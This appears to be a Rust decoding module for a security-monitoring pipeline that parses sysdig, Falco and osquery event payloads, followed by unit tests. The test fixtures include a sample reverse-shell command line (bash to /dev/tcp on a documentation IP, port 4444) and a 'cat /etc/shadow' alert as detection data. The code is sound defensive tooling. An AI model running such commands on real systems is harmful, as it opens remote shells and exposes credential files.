//! Payload decoding: one NATS message payload in, one [`Decoded`] record out, never a failure.
//!
//! Collectors publish several JSON shapes (see `shared/design/EVENTS.md`): the SysArmor template
//! (`{"event":{...}}` with every value a string), a worker wrapper carrying that template as a
//! string in `raw_data`, plain `sysdig -j` output with flat typed keys, Falco alerts, osquery
//! result logs and the guide's probe messages. This module detects the shape of each payload,
//! pulls the sysdig fields out of it in a single borrowed `serde_json` pass (no `Value` tree), and
//! converts strings that carry numbers or times into typed values. Anything that does not parse
//! is still a record: its status says why, and the raw bytes stay with the row downstream.
//! SysArmor templates broken by unescaped quotes or newlines (sysdig `-p` does no JSON escaping)
//! are repaired from the template's fixed `","key":"` separators.

use std::borrow::Cow;
use std::fmt;

use chrono::{DateTime, NaiveDateTime};
use serde::de::{self, DeserializeSeed, Deserializer, IgnoredAny, MapAccess, Visitor};

mod convert;
mod repair;

use convert::*;
pub use convert::{parse_socket_tuple, parse_time_ns};
use repair::*;

/// The detected payload shape, stored in the `shape` column.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Shape {
    /// `{"event":{"evt.num":"…", …}}`, the SysArmor collector template.
    SysarmorTemplate,
    /// `{"raw_data":"<template as a string>","collector_id":…,"hostname":…}`.
    WorkerWrapper,
    /// Flat `sysdig -j` output with typed values.
    SysdigJson,
    /// A Falco alert.
    Falco,
    /// An osquery result log line.
    Osquery,
    /// The SysArmor guide's `jetstream-test` probe.
    Probe,
    /// Valid JSON that matches none of the above.
    Unknown,
    /// Not JSON (and not repairable).
    Invalid,
}

impl Shape {
    /// The value stored in the `shape` column.
    pub fn as_str(self) -> &'static str {
        match self {
            Shape::SysarmorTemplate => "sysarmor_template",
            Shape::WorkerWrapper => "worker_wrapper",
            Shape::SysdigJson => "sysdig_json",
            Shape::Falco => "falco",
            Shape::Osquery => "osquery",
            Shape::Probe => "probe",
            Shape::Unknown => "unknown",
            Shape::Invalid => "invalid",
        }
    }
}

/// How the payload was read, stored in the `parse_status` column.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Status {
    /// Parsed as JSON and recognised.
    Ok,
    /// Not valid JSON, but recovered from the SysArmor template's fixed layout.
    Repaired,
    /// Valid JSON of no known shape: only provenance and raw bytes are meaningful.
    UnknownShape,
    /// Not JSON: only provenance and raw bytes are meaningful.
    Invalid,
}

impl Status {
    /// The value stored in the `parse_status` column.
    pub fn as_str(self) -> &'static str {
        match self {
            Status::Ok => "ok",
            Status::Repaired => "repaired",
            Status::UnknownShape => "unknown_shape",
            Status::Invalid => "invalid",
        }
    }
}

/// A socket tuple `client_ip:port->server_ip:port` split into its parts.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SocketTuple<'a> {
    pub client_ip: &'a str,
    pub client_port: Option<i32>,
    pub server_ip: &'a str,
    pub server_port: Option<i32>,
}

/// The typed fields of one event; `None` where the payload lacks a field or its value does not convert.
#[derive(Debug, Default, Clone, PartialEq)]
pub struct Event<'a> {
    pub collector_id: Option<Cow<'a, str>>,
    pub hostname: Option<Cow<'a, str>>,
    /// Nanoseconds since the Unix epoch, UTC.
    pub event_time_ns: Option<i64>,
    pub evt_num: Option<i64>,
    pub evt_type: Option<Cow<'a, str>>,
    pub evt_dir: Option<Cow<'a, str>>,
    pub evt_args: Option<Cow<'a, str>>,
    pub fd_name: Option<Cow<'a, str>>,
    pub proc_pid: Option<i64>,
    pub proc_ppid: Option<i64>,
    pub proc_name: Option<Cow<'a, str>>,
    pub proc_exepath: Option<Cow<'a, str>>,
    pub proc_cmdline: Option<Cow<'a, str>>,
    pub proc_pname: Option<Cow<'a, str>>,
    pub proc_pcmdline: Option<Cow<'a, str>>,
    pub user_name: Option<Cow<'a, str>>,
    pub user_uid: Option<i64>,
    pub container_id: Option<Cow<'a, str>>,
    /// Falco rule name, or osquery query name.
    pub rule: Option<Cow<'a, str>>,
    /// Falco priority.
    pub priority: Option<Cow<'a, str>>,
    /// An event time was given but is no time that fits a nanosecond timestamp (1677-2262):
    /// `event_time_ns` stays `None` rather than a clamped date, and `parse_error` says why.
    pub time_unreadable: bool,
}

impl Event<'_> {
    /// The socket tuple in `fd_name`, when it is one.
    pub fn socket(&self) -> Option<SocketTuple<'_>> {
        self.fd_name.as_deref().and_then(parse_socket_tuple)
    }
}

/// The outcome of decoding one payload.
#[derive(Debug, Clone, PartialEq)]
pub struct Decoded<'a> {
    pub shape: Shape,
    pub status: Status,
    /// Why the payload did not parse (JSON error text), for `Invalid` and `Repaired` rows.
    pub error: Option<String>,
    pub event: Event<'a>,
}

/// Decodes one payload. Never panics; always returns a record.
pub fn decode(payload: &[u8]) -> Decoded<'_> {
    let body = strip_bom(payload);
    match serde_json::from_slice::<Top<'_>>(body) {
        Ok(top) => top.into_decoded(),
        Err(err) => match repair_template(body) {
            Some(event) => Decoded {
                shape: Shape::SysarmorTemplate,
                status: Status::Repaired,
                error: Some(err.to_string()),
                event,
            },
            None => Decoded {
                shape: Shape::Invalid,
                status: Status::Invalid,
                error: Some(invalid_reason(body, &err)),
                event: Event::default(),
            },
        },
    }
}

fn strip_bom(payload: &[u8]) -> &[u8] {
    payload.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(payload)
}

fn invalid_reason(body: &[u8], err: &serde_json::Error) -> String {
    if body.starts_with(b"\xFF\xFE") || body.starts_with(b"\xFE\xFF") {
        return "UTF-16 payload (not UTF-8 JSON)".to_string();
    }
    if body.is_empty() {
        return "empty payload".to_string();
    }
    err.to_string()
}

// ---------------------------------------------------------------------------------------------
// A JSON scalar as it appears in any of the shapes: a string (borrowed where possible) or a number.

#[derive(Debug, Clone)]
enum Scalar<'a> {
    Str(Cow<'a, str>),
    Int(i64),
    Float(f64),
    Bool(bool),
    Other,
}

impl<'a> Scalar<'a> {
    fn into_text(self) -> Option<Cow<'a, str>> {
        match self {
            Scalar::Str(s) => Some(s),
            Scalar::Int(i) => Some(Cow::Owned(i.to_string())),
            Scalar::Float(f) => Some(Cow::Owned(f.to_string())),
            Scalar::Bool(b) => Some(Cow::Borrowed(if b { "true" } else { "false" })),
            Scalar::Other => None,
        }
    }

    fn to_int(&self) -> Option<i64> {
        match self {
            Scalar::Str(s) => s.trim().parse().ok(),
            Scalar::Int(i) => Some(*i),
            Scalar::Float(f) if f.fract() == 0.0 && f.abs() < 9.0e18 => Some(*f as i64),
            _ => None,
        }
    }

    fn to_time_ns(&self) -> Option<i64> {
        match self {
            Scalar::Str(s) => parse_time_ns(s),
            Scalar::Int(i) => epoch_int_to_ns(*i),
            Scalar::Float(f) => epoch_to_ns(*f),
            _ => None,
        }
    }

    /// True for a value that says something (not an empty string, not null).
    fn is_given(&self) -> bool {
        match self {
            Scalar::Str(s) => !s.trim().is_empty(),
            Scalar::Other => false,
            _ => true,
        }
    }
}

/// Sets the event's time from `value` unless it has one; a value given that is no
/// representable time is noted instead of being clamped.
fn take_time(ev: &mut Event<'_>, value: &Scalar<'_>) {
    if ev.event_time_ns.is_some() {
        return;
    }
    ev.event_time_ns = value.to_time_ns();
    ev.time_unreadable = ev.event_time_ns.is_none() && value.is_given();
}

impl Event<'_> {
    /// What `parse_error` says of a payload that parsed but whose time did not.
    fn time_note(&self) -> Option<String> {
        (self.event_time_ns.is_none() && self.time_unreadable).then(|| {
            "the event time is not a time between 1677 and 2262 (nanosecond timestamps): \
             event_time left NULL"
                .to_string()
        })
    }
}

struct ScalarVisitor;

impl<'de> Visitor<'de> for ScalarVisitor {
    type Value = Scalar<'de>;

    fn expecting(&self, f: &mut fmt::Formatter) -> fmt::Result {
        f.write_str("a JSON value")
    }
    fn visit_borrowed_str<E: de::Error>(self, v: &'de str) -> Result<Self::Value, E> {
        Ok(Scalar::Str(Cow::Borrowed(v)))
    }
    fn visit_str<E: de::Error>(self, v: &str) -> Result<Self::Value, E> {
        Ok(Scalar::Str(Cow::Owned(v.to_owned())))
    }
    fn visit_string<E: de::Error>(self, v: String) -> Result<Self::Value, E> {
        Ok(Scalar::Str(Cow::Owned(v)))
    }
    fn visit_i64<E: de::Error>(self, v: i64) -> Result<Self::Value, E> {
        Ok(Scalar::Int(v))
    }
    fn visit_u64<E: de::Error>(self, v: u64) -> Result<Self::Value, E> {
        Ok(i64::try_from(v).map_or(Scalar::Float(v as f64), Scalar::Int))
    }
    fn visit_f64<E: de::Error>(self, v: f64) -> Result<Self::Value, E> {
        Ok(Scalar::Float(v))
    }
    fn visit_bool<E: de::Error>(self, v: bool) -> Result<Self::Value, E> {
        Ok(Scalar::Bool(v))
    }
    fn visit_unit<E: de::Error>(self) -> Result<Self::Value, E> {
        Ok(Scalar::Other)
    }
    fn visit_none<E: de::Error>(self) -> Result<Self::Value, E> {
        Ok(Scalar::Other)
    }
    fn visit_seq<A: de::SeqAccess<'de>>(self, mut seq: A) -> Result<Self::Value, A::Error> {
        while seq.next_element::<IgnoredAny>()?.is_some() {}
        Ok(Scalar::Other)
    }
    fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<Self::Value, A::Error> {
        while map.next_entry::<IgnoredAny, IgnoredAny>()?.is_some() {}
        Ok(Scalar::Other)
    }
}

impl<'de> serde::Deserialize<'de> for Scalar<'de> {
    fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        d.deserialize_any(ScalarVisitor)
    }
}

// ---------------------------------------------------------------------------------------------
// sysdig field names (`evt.num`, `proc.pid`, …) into an Event. Used for the template's `event`
// object, flat `sysdig -j` output, Falco's `output_fields` and repaired templates.

fn set_sysdig_field<'a>(ev: &mut Event<'a>, key: &str, value: Scalar<'a>) -> bool {
    match key {
        "evt.num" => ev.evt_num = value.to_int(),
        "evt.time" | "evt.rawtime" | "evt.datetime" => take_time(ev, &value),
        "evt.type" => ev.evt_type = value.into_text(),
        "evt.dir" => ev.evt_dir = value.into_text(),
        "evt.args" | "evt.info" => ev.evt_args = value.into_text(),
        "fd.name" => ev.fd_name = value.into_text(),
        "proc.pid" => ev.proc_pid = value.to_int(),
        "proc.ppid" => ev.proc_ppid = value.to_int(),
        "proc.name" => ev.proc_name = value.into_text(),
        "proc.exepath" | "proc.exe" => {
            if ev.proc_exepath.is_none() {
                ev.proc_exepath = value.into_text();
            }
        }
        "proc.cmdline" => ev.proc_cmdline = value.into_text(),
        "proc.pname" => ev.proc_pname = value.into_text(),
        "proc.pcmdline" => ev.proc_pcmdline = value.into_text(),
        "user.name" => ev.user_name = value.into_text(),
        "user.uid" => ev.user_uid = value.to_int(),
        "container.id" => ev.container_id = value.into_text(),
        _ => return false,
    }
    true
}

/// Deserializes a JSON object of sysdig fields into the event it borrows.
struct SysdigObject<'e, 'a> {
    event: &'e mut Event<'a>,
}

impl<'de, 'e> DeserializeSeed<'de> for SysdigObject<'e, 'de> {
    type Value = usize;
    fn deserialize<D: Deserializer<'de>>(self, d: D) -> Result<usize, D::Error> {
        d.deserialize_any(self)
    }
}

impl<'de, 'e> Visitor<'de> for SysdigObject<'e, 'de> {
    type Value = usize;
    fn expecting(&self, f: &mut fmt::Formatter) -> fmt::Result {
        f.write_str("an object of sysdig fields")
    }
    fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<usize, A::Error> {
        let mut known = 0;
        while let Some(key) = map.next_key::<Cow<'de, str>>()? {
            let value: Scalar<'de> = map.next_value()?;
            if set_sysdig_field(self.event, &key, value) {
                known += 1;
            }
        }
        Ok(known)
    }
    // Anything but an object (a string, a number…) is skipped; the shape stays unrecognised.
    fn visit_str<E: de::Error>(self, _: &str) -> Result<usize, E> {
        Ok(0)
    }
    fn visit_i64<E: de::Error>(self, _: i64) -> Result<usize, E> {
        Ok(0)
    }
    fn visit_u64<E: de::Error>(self, _: u64) -> Result<usize, E> {
        Ok(0)
    }
    fn visit_f64<E: de::Error>(self, _: f64) -> Result<usize, E> {
        Ok(0)
    }
    fn visit_bool<E: de::Error>(self, _: bool) -> Result<usize, E> {
        Ok(0)
    }
    fn visit_unit<E: de::Error>(self) -> Result<usize, E> {
        Ok(0)
    }
    fn visit_seq<A: de::SeqAccess<'de>>(self, mut seq: A) -> Result<usize, A::Error> {
        while seq.next_element::<IgnoredAny>()?.is_some() {}
        Ok(0)
    }
}

/// osquery `columns`: the process fields the tool maps.
struct OsqueryColumns<'e, 'a> {
    event: &'e mut Event<'a>,
}

impl<'de, 'e> DeserializeSeed<'de> for OsqueryColumns<'e, 'de> {
    type Value = ();
    fn deserialize<D: Deserializer<'de>>(self, d: D) -> Result<(), D::Error> {
        d.deserialize_any(self)
    }
}

impl<'de, 'e> Visitor<'de> for OsqueryColumns<'e, 'de> {
    type Value = ();
    fn expecting(&self, f: &mut fmt::Formatter) -> fmt::Result {
        f.write_str("osquery columns")
    }
    fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<(), A::Error> {
        let ev = self.event;
        while let Some(key) = map.next_key::<Cow<'de, str>>()? {
            let value: Scalar<'de> = map.next_value()?;
            match key.as_ref() {
                "pid" => ev.proc_pid = value.to_int(),
                "parent" => ev.proc_ppid = value.to_int(),
                "name" => ev.proc_name = value.into_text(),
                "path" => ev.proc_exepath = value.into_text(),
                "cmdline" => ev.proc_cmdline = value.into_text(),
                "username" => ev.user_name = value.into_text(),
                "uid" => ev.user_uid = value.to_int(),
                _ => {}
            }
        }
        Ok(())
    }
    fn visit_unit<E: de::Error>(self) -> Result<(), E> {
        Ok(())
    }
    fn visit_str<E: de::Error>(self, _: &str) -> Result<(), E> {
        Ok(())
    }
    fn visit_seq<A: de::SeqAccess<'de>>(self, mut seq: A) -> Result<(), A::Error> {
        while seq.next_element::<IgnoredAny>()?.is_some() {}
        Ok(())
    }
}

/// The top level of any payload: one pass over its keys, remembering which shape markers appear.
#[derive(Default)]
struct Top<'a> {
    event: Event<'a>,
    is_object: bool,
    template_fields: usize,
    flat_fields: usize,
    raw_data: Option<Cow<'a, str>>,
    // Falco
    rule: bool,
    output: bool,
    // osquery
    host_identifier: bool,
    columns: bool,
    // probe
    agent_id: bool,
    event_type: bool,
    time: Option<Scalar<'a>>,
}

impl<'de> serde::Deserialize<'de> for Top<'de> {
    fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        d.deserialize_any(TopVisitor)
    }
}

struct TopVisitor;

impl<'de> Visitor<'de> for TopVisitor {
    type Value = Top<'de>;
    fn expecting(&self, f: &mut fmt::Formatter) -> fmt::Result {
        f.write_str("a JSON document")
    }
    fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<Top<'de>, A::Error> {
        let mut top = Top {
            is_object: true,
            ..Top::default()
        };
        while let Some(key) = map.next_key::<Cow<'de, str>>()? {
            match key.as_ref() {
                "event" => {
                    top.template_fields += map.next_value_seed(SysdigObject {
                        event: &mut top.event,
                    })?
                }
                "output_fields" => {
                    map.next_value_seed(SysdigObject {
                        event: &mut top.event,
                    })?;
                }
                "columns" => {
                    top.columns = true;
                    map.next_value_seed(OsqueryColumns {
                        event: &mut top.event,
                    })?;
                }
                "raw_data" => top.raw_data = map.next_value::<Scalar<'de>>()?.into_text(),
                "collector_id" => top.event.collector_id = map.next_value::<Scalar>()?.into_text(),
                "hostname" | "hostIdentifier" | "host" => {
                    top.host_identifier |= key == "hostIdentifier";
                    let v = map.next_value::<Scalar>()?.into_text();
                    if top.event.hostname.is_none() {
                        top.event.hostname = v;
                    }
                }
                "rule" | "name" => {
                    top.rule |= key == "rule";
                    top.event.rule = map.next_value::<Scalar>()?.into_text();
                }
                "priority" => top.event.priority = map.next_value::<Scalar>()?.into_text(),
                "output" => {
                    top.output = true;
                    map.next_value::<IgnoredAny>()?;
                }
                "agent_id" => {
                    top.agent_id = true;
                    let v = map.next_value::<Scalar>()?.into_text();
                    if top.event.collector_id.is_none() {
                        top.event.collector_id = v;
                    }
                }
                "event_type" | "action" => {
                    top.event_type |= key == "event_type";
                    let v = map.next_value::<Scalar>()?.into_text();
                    if top.event.evt_type.is_none() {
                        top.event.evt_type = v;
                    }
                }
                "time" | "timestamp" | "unixTime" | "calendarTime" => {
                    let v: Scalar<'de> = map.next_value()?;
                    // Prefer a numeric epoch (osquery unixTime) over calendar text.
                    if top.time.is_none() || key == "unixTime" {
                        top.time = Some(v);
                    }
                }
                other => {
                    let value: Scalar<'de> = map.next_value()?;
                    if set_sysdig_field(&mut top.event, other, value) {
                        top.flat_fields += 1;
                    }
                }
            }
        }
        Ok(top)
    }
    fn visit_seq<A: de::SeqAccess<'de>>(self, mut seq: A) -> Result<Top<'de>, A::Error> {
        while seq.next_element::<IgnoredAny>()?.is_some() {}
        Ok(Top::default())
    }
    fn visit_str<E: de::Error>(self, _: &str) -> Result<Top<'de>, E> {
        Ok(Top::default())
    }
    fn visit_i64<E: de::Error>(self, _: i64) -> Result<Top<'de>, E> {
        Ok(Top::default())
    }
    fn visit_u64<E: de::Error>(self, _: u64) -> Result<Top<'de>, E> {
        Ok(Top::default())
    }
    fn visit_f64<E: de::Error>(self, _: f64) -> Result<Top<'de>, E> {
        Ok(Top::default())
    }
    fn visit_bool<E: de::Error>(self, _: bool) -> Result<Top<'de>, E> {
        Ok(Top::default())
    }
    fn visit_unit<E: de::Error>(self) -> Result<Top<'de>, E> {
        Ok(Top::default())
    }
}

impl<'a> Top<'a> {
    fn into_decoded(mut self) -> Decoded<'a> {
        let time = self.time.take();
        let shape = if !self.is_object {
            Shape::Unknown
        } else if self.raw_data.is_some() {
            Shape::WorkerWrapper
        } else if self.template_fields > 0 {
            Shape::SysarmorTemplate
        } else if self.rule && self.output {
            Shape::Falco
        } else if self.host_identifier && self.columns {
            Shape::Osquery
        } else if self.agent_id && self.event_type {
            Shape::Probe
        } else if self.flat_fields > 0 {
            Shape::SysdigJson
        } else {
            Shape::Unknown
        };
        if shape == Shape::WorkerWrapper {
            return self.unwrap_worker();
        }
        let mut event = self.event;
        if let Some(t) = &time {
            take_time(&mut event, t);
        }
        let status = if shape == Shape::Unknown {
            Status::UnknownShape
        } else {
            Status::Ok
        };
        Decoded {
            shape,
            status,
            error: event.time_note(),
            event,
        }
    }

    /// The wrapper's `raw_data` holds a template as text: decode it, then lay the wrapper's own
    /// collector and host over it. An inner payload that is broken stays visible in the status.
    fn unwrap_worker(self) -> Decoded<'a> {
        let outer = self.event;
        let raw = self.raw_data.unwrap_or_default();
        let (mut event, status, error) = decode_inner(raw);
        event.collector_id = outer.collector_id.or(event.collector_id);
        event.hostname = outer.hostname.or(event.hostname);
        Decoded {
            shape: Shape::WorkerWrapper,
            status,
            error,
            event,
        }
    }
}

/// Decodes the text inside a wrapper. Borrowed text can lend its fields to the event; text that
/// needed unescaping is owned by nobody else, so its fields are copied out.
fn decode_inner(raw: Cow<'_, str>) -> (Event<'_>, Status, Option<String>) {
    fn owned(ev: Event<'_>) -> Event<'static> {
        fn o(c: Option<Cow<'_, str>>) -> Option<Cow<'static, str>> {
            c.map(|c| Cow::Owned(c.into_owned()))
        }
        Event {
            collector_id: o(ev.collector_id),
            hostname: o(ev.hostname),
            event_time_ns: ev.event_time_ns,
            evt_num: ev.evt_num,
            evt_type: o(ev.evt_type),
            evt_dir: o(ev.evt_dir),
            evt_args: o(ev.evt_args),
            fd_name: o(ev.fd_name),
            proc_pid: ev.proc_pid,
            proc_ppid: ev.proc_ppid,
            proc_name: o(ev.proc_name),
            proc_exepath: o(ev.proc_exepath),
            proc_cmdline: o(ev.proc_cmdline),
            proc_pname: o(ev.proc_pname),
            proc_pcmdline: o(ev.proc_pcmdline),
            user_name: o(ev.user_name),
            user_uid: ev.user_uid,
            container_id: o(ev.container_id),
            rule: o(ev.rule),
            priority: o(ev.priority),
            time_unreadable: ev.time_unreadable,
        }
    }
    fn classify(d: Decoded<'_>) -> (Event<'_>, Status, Option<String>) {
        let status = match (d.status, d.shape) {
            (Status::Ok, Shape::SysarmorTemplate | Shape::SysdigJson) => Status::Ok,
            (Status::Ok, _) | (Status::UnknownShape, _) => Status::UnknownShape,
            (s, _) => s,
        };
        (d.event, status, d.error)
    }
    match raw {
        Cow::Borrowed(s) => classify(decode(s.as_bytes())),
        Cow::Owned(s) => {
            let (ev, status, err) = classify(decode(s.as_bytes()));
            (owned(ev), status, err)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Repair work grows linearly with the payload whatever an adversary repeats: the separator
    /// search looks at most a key's length ahead of each candidate (it used to scan to the end of
    /// the payload for each, minutes for a 900 KiB run of `","`). Counted, not timed.
    #[test]
    fn repair_is_linear_on_adversarial_templates() {
        let fills: [&str; 6] = [
            "\",\"",
            "\",\"a.b",
            "\",\"a.b\":",
            "\",\"x",
            "\":\"\",\"",
            "\",\"proc.name\"",
        ];
        for fill in fills {
            for size in [64 << 10, 1 << 20] {
                let mut p = String::from("{\"event\":{\"proc.cmdline\":\"");
                while p.len() < size {
                    p.push_str(fill);
                }
                p.push_str("\"}}");
                LOOKAHEAD.with(|n| n.set(0));
                let d = decode(p.as_bytes());
                let looked = LOOKAHEAD.with(|n| n.get());
                assert!(
                    looked <= (MAX_KEY + 3) * p.len(),
                    "{fill:?} x {size}: looked ahead {looked} bytes for {} ({:?})",
                    p.len(),
                    d.status
                );
            }
        }
        // And the repair still finds its fields.
        let d = decode(br#"{"event":{"proc.cmdline":"a","b" c","proc.name":"sh"}}"#);
        assert_eq!(d.status, Status::Repaired);
        assert_eq!(d.event.proc_name.as_deref(), Some("sh"));
    }

    #[test]
    fn fast_time_parser_agrees_with_chrono() {
        let cases = [
            (
                "2025-07-10T02:16:41.512093817+0000",
                "2025-07-10T02:16:41.512093817+00:00",
            ),
            ("2025-07-10T02:16:41.5+02:00", "2025-07-10T02:16:41.5+02:00"),
            ("2025-07-10 02:16:41-0530", "2025-07-10T02:16:41-05:30"),
            (
                "2024-02-29T23:59:59.999999999Z",
                "2024-02-29T23:59:59.999999999Z",
            ),
            ("1969-12-31T23:59:59.1Z", "1969-12-31T23:59:59.1Z"),
            ("2025-07-10T02:16:41", "2025-07-10T02:16:41Z"),
            ("2000-03-01T00:00:00+01", "2000-03-01T00:00:00+01:00"),
        ];
        for (input, rfc3339) in cases {
            let fast = parse_iso_fast(input.as_bytes()).unwrap_or_else(|| panic!("{input}"));
            let chrono = DateTime::parse_from_rfc3339(rfc3339)
                .unwrap()
                .timestamp_nanos_opt()
                .unwrap();
            assert_eq!(fast, chrono, "{input}");
        }
        for bad in [
            "2025-02-30T00:00:00Z",
            "2025-13-01T00:00:00Z",
            "2025-07-10T24:00:00Z",
            "2025-07-10T02:16:41.Z",
            "2025-07-10T02:16:41+0",
            "2025-07-10X02:16:41",
        ] {
            assert_eq!(parse_iso_fast(bad.as_bytes()), None, "{bad}");
        }
    }

    const TEMPLATE: &str = r#"{"event":{"evt.num":"88231","evt.time":"2025-07-10T02:16:41.512093817+0000","evt.type":"connect","evt.args":"res=0 tuple=10.0.1.10:40522->203.0.113.66:4444","fd.name":"10.0.1.10:40522->203.0.113.66:4444","proc.pid":"23030","proc.name":"bash","proc.cmdline":"bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1","proc.ppid":"1403","proc.pname":"php-fpm8.1","proc.pcmdline":"php-fpm: pool www"}}"#;

    #[test]
    fn template_is_typed() {
        let d = decode(TEMPLATE.as_bytes());
        assert_eq!(d.shape, Shape::SysarmorTemplate);
        assert_eq!(d.status, Status::Ok);
        assert_eq!(d.event.evt_num, Some(88231));
        assert_eq!(d.event.proc_pid, Some(23030));
        assert_eq!(d.event.proc_ppid, Some(1403));
        assert_eq!(d.event.event_time_ns, Some(1_752_113_801_512_093_817));
        assert_eq!(d.event.proc_pname.as_deref(), Some("php-fpm8.1"));
        let sock = d.event.socket().unwrap();
        assert_eq!(sock.server_ip, "203.0.113.66");
        assert_eq!(sock.server_port, Some(4444));
        assert_eq!(sock.client_port, Some(40522));
    }

    #[test]
    fn wrapper_unwraps_template() {
        let wrapped = serde_json::json!({"raw_data": TEMPLATE, "collector_id": "web-01", "hostname": "web-01.prod"});
        let bytes = serde_json::to_vec(&wrapped).unwrap();
        let d = decode(&bytes);
        assert_eq!(d.shape, Shape::WorkerWrapper);
        assert_eq!(d.status, Status::Ok);
        assert_eq!(d.event.collector_id.as_deref(), Some("web-01"));
        assert_eq!(d.event.hostname.as_deref(), Some("web-01.prod"));
        assert_eq!(d.event.proc_pid, Some(23030));
    }

    #[test]
    fn broken_template_is_repaired() {
        let broken = r#"{"event":{"evt.num":"7","evt.time":"2025-07-10T02:16:41.5Z","evt.type":"openat","evt.args":"fd=3","fd.name":"/tmp/x","proc.pid":"10","proc.name":"sh","proc.cmdline":"sh -c echo "hi", there
done","proc.ppid":"1","proc.pname":"init","proc.pcmdline":"init"}}"#;
        let d = decode(broken.as_bytes());
        assert_eq!(d.status, Status::Repaired, "{d:?}");
        assert_eq!(
            d.event.proc_cmdline.as_deref(),
            Some("sh -c echo \"hi\", there\ndone")
        );
        assert_eq!(d.event.proc_ppid, Some(1));
        assert_eq!(d.event.proc_pcmdline.as_deref(), Some("init"));
        assert!(d.error.is_some());
    }

    #[test]
    fn flat_falco_osquery_probe() {
        let flat = br#"{"evt.num":5,"evt.time":1752113801512093817,"evt.type":"open","proc.pid":12,"proc.name":"cat","fd.name":"/etc/passwd"}"#;
        let d = decode(flat);
        assert_eq!(d.shape, Shape::SysdigJson);
        assert_eq!(d.event.event_time_ns, Some(1_752_113_801_512_093_817));
        assert_eq!(d.event.proc_pid, Some(12));

        let falco = br#"{"time":"2025-07-10T02:16:41.512093817Z","rule":"Read sensitive file","priority":"Warning","source":"syscall","hostname":"app-01","output":"x","tags":["a"],"output_fields":{"proc.cmdline":"cat /etc/shadow","proc.pid":77}}"#;
        let d = decode(falco);
        assert_eq!(d.shape, Shape::Falco);
        assert_eq!(d.event.rule.as_deref(), Some("Read sensitive file"));
        assert_eq!(d.event.proc_pid, Some(77));
        assert_eq!(d.event.hostname.as_deref(), Some("app-01"));
        assert!(d.event.event_time_ns.is_some());

        let osq = br#"{"name":"processes","hostIdentifier":"db-01","calendarTime":"Thu Jul 10 02:16:41 2025 UTC","unixTime":"1752113801","action":"added","columns":{"pid":"42","cmdline":"mysqld","parent":"1"}}"#;
        let d = decode(osq);
        assert_eq!(d.shape, Shape::Osquery);
        assert_eq!(d.event.event_time_ns, Some(1_752_113_801_000_000_000));
        assert_eq!(d.event.proc_pid, Some(42));

        let probe = br#"{"timestamp":"2025-07-10T02:16:41Z","agent_id":"c1","event_type":"test","data":{"k":1}}"#;
        let d = decode(probe);
        assert_eq!(d.shape, Shape::Probe);
        assert_eq!(d.event.collector_id.as_deref(), Some("c1"));
    }

    #[test]
    fn odd_input_still_yields_a_row() {
        for p in [
            &b""[..],
            b"null",
            b"[1,2]",
            b"\"x\"",
            b"{}",
            b"\xff\xfe{",
            b"{\"event\":5}",
        ] {
            let d = decode(p);
            assert!(
                matches!(d.status, Status::Invalid | Status::UnknownShape),
                "{p:?}"
            );
        }
        assert_eq!(
            decode(b"{\"event\":{\"evt.num\":\"x\"").status,
            Status::Invalid
        );
    }

    #[test]
    fn times() {
        assert_eq!(parse_time_ns("1752113801"), Some(1_752_113_801_000_000_000));
        assert_eq!(
            parse_time_ns("1752113801512"),
            Some(1_752_113_801_512_000_000)
        );
        assert_eq!(
            parse_time_ns("2025-07-10 02:16:41.5"),
            Some(1_752_113_801_500_000_000)
        );
        assert_eq!(parse_time_ns("02:16:41.512"), None);
        assert_eq!(parse_time_ns("garbage"), None);
    }

    /// A time that is a number no nanosecond timestamp holds (`1e308`, `-1e300`, 9.3e18 ns)
    /// is NULL, not the clamped year 2262, and the row's `parse_error` says so; the payload
    /// still parses (status `ok`).
    #[test]
    fn out_of_range_times_are_null_and_said_so() {
        for t in [
            "1e308",
            "-1e300",
            "9.3e18",
            "\"1e308\"",
            "\"3000-01-01T00:00:00Z\"",
        ] {
            let payload = format!(
                r#"{{"event":{{"evt.num":"1","evt.time":{t},"evt.type":"openat","proc.pid":"7","proc.name":"cat"}},"hostname":"h"}}"#
            );
            let d = decode(payload.as_bytes());
            assert_eq!(d.status, Status::Ok, "{t}");
            assert_eq!(d.event.event_time_ns, None, "{t}");
            assert!(
                d.error
                    .as_deref()
                    .is_some_and(|e| e.contains("event_time left NULL")),
                "{t}: {:?}",
                d.error
            );
        }
        assert_eq!(parse_time_ns("1e308"), None);
        // In range: kept, no note.
        let d = decode(br#"{"event":{"evt.num":"1","evt.time":1752113801.5,"evt.type":"openat"}}"#);
        assert_eq!(d.event.event_time_ns, Some(1_752_113_801_500_000_000));
        assert_eq!(d.error, None);
    }
}
